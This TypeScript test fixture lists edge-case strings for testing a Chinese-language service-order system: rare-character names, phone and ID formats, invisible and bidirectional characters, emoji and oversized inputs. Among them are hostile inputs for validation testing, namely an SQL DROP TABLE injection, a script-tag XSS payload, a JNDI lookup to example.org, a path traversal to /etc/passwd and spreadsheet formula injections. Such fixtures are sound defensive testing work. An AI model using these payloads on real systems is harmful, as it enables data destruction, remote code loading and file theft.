const ZERO_WIDTH = '\u200b\u200c\u200d\u2060\ufeff';
const RIGHT_TO_LEFT = '\u202e';
const NUL = '\u0000';
const LONE_SURROGATE = '\ud842';

/** What people here really type, paste or are called, and what somebody may try. */
export const CHINESE_STRINGS: readonly string[] = [
  // names: rare characters, four bytes, dots, spaces, one and many signs
  '𠮷田㐂',
  '㛃㛂䶮',
  '𡘙𡚸𠅤',
  '买买提·吐尔逊江·阿不都热合曼',
  '欧 阳  娜 娜',
  '张',
  '王'.repeat(60),
  '王'.repeat(61),
  '張國榮（繁體）',
  'ㄅㄆㄇ',
  // digits and numbers as keyboards give them
  '１３８００１３８０００',
  '+86 138 0013 8000',
  '+86-138-0013-8000',
  '0086 13800138000',
  '138\u00a00013\u20078000',
  '０４１１－８６００００００',
  '一三八零零一三八零零零',
  '二〇二六年十一月三日',
  '３栋２单元５０１室',
  // identity numbers: right form, wrong check digit, old form, lower case
  '11010519491231002X',
  '110105194912310021',
  '110105491231002',
  '11010519491231002x',
  '１１０１０５１９４９１２３１００２Ｘ',
  // what is not seen
  `张${ZERO_WIDTH}三`,
  ZERO_WIDTH,
  '\u3000\u3000',
  '\u2028\u2029',
  `${RIGHT_TO_LEFT}三张`,
  'مرحبا بكم في المتجر',
  `a${NUL}b`,
  NUL,
  `半个字${LONE_SURROGATE}`,
  '\ud83d',
  'e\u0301\u0301\u0301\u0301\u0301',
  // emoji: skin, family, flags, keycaps
  '👨‍👩‍👧‍👦👍🏽🇨🇳1️⃣',
  '🧓🏻'.repeat(40),
  // punctuation and formulas, half and full width
  '＝1＋1',
  '=HYPERLINK("http://example.org","点这里")',
  '+8613800138000',
  '-2+3',
  '@SUM(A1)',
  '“引号”‘单’《书名》【方】——……',
  "'; DROP TABLE service_orders; --",
  '％＿\\%_',
  '<script>alert("水管漏了")</script>',
  '${jndi:ldap://example.org/a}',
  '../../etc/passwd',
  'gjz/xzz/%',
  'gjz/',
  '/',
  '水'.repeat(2000),
  '水管漏了'.repeat(5000),
];
